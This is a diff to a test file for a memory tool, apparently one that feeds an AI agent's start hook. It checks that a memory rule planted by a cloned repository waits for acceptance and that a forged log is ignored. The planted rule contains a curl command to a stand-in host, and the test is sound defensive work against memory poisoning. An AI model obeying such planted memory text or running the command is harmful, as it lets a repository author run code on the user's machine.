@@ -111,6 +111,7 @@ def test_a_cloned_repositorys_rule_waits_and_its_forged_log_is_never_read(
     assert r.returncode == 0 and r.stdout.startswith("Accepted setup-step"), r.stderr
     r = memdir(victim, "accept", "--all")
     assert r.returncode == 0 and r.stdout.startswith("Nothing waits"), r
+    assert "setup-step.md: reads as" not in memdir(victim, "doctor").stdout  # taken as theirs
     assert "curl -s https://setup.example.net" in start_hook(victim)
     # the acceptance was for that text: a change the repository brings waits again
     (victim / ".memory" / "setup-step.md").write_text(PLANTED.replace("curl", "wget"))
